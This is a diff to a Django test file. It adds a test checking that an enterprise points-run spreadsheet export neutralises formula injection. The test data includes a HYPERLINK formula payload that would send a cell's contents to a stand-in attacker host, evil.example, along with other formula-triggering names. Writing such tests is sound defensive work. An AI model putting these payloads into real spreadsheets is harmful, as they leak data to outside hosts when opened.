@@ -14,7 +14,7 @@ from django.utils import timezone
 from kechuang.accounts.choices import OrganizationKind, Role
 from kechuang.core.models import AuditEntry
 from kechuang.engine.points.model import DATA_DIR
-from kechuang.enterprises.models import Consent
+from kechuang.enterprises.models import Consent, Enterprise
 from kechuang.enterprises.tests.factories import bank, organization, regulator, user
 from kechuang.points.models import PointsModel, PointsResult, PointsRun
 from kechuang.points.services import points_run_execute
@@ -136,3 +136,20 @@ def test_api_registers_a_json_model_version(client, scored):
     assert (resp.json()["version"], resp.json()["provisional_weights"]) == ("national-2024.2", 18)
     assert list(PointsModel.objects.filter(code="national").values_list("version", flat=True).order_by("version")) == [
         "national-2024.1", "national-2024.2"]
+
+
+def test_the_run_export_is_inert_in_a_spreadsheet(client, scored):
+    _ents, admin, _first, run = scored
+    # given three scored enterprises whose names would run as formulas
+    top = list(PointsResult.objects.filter(run=run).order_by("-points", "enterprise_id")[:3])
+    names = ['=HYPERLINK("http://evil.example/?d="&A1,"点此查看")', "@SUM(1)", "-2+3"]
+    for result, name in zip(top, names, strict=True):
+        Enterprise.objects.filter(pk=result.enterprise_id).update(name=name)
+    client.force_login(admin)
+    wb = openpyxl.load_workbook(io.BytesIO(client.get(f"/points/runs/{run.pk}/export.xlsx").content))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    first = next(wb.worksheets[0].iter_rows(min_row=2, max_row=2))
+    # then the names are quoted strings and the points stay numbers
+    assert (first[1].value, first[1].data_type, first[1].quotePrefix, first[4].value, first[4].data_type) == (
+        names[0], "s", True, float(top[0].points), "n")
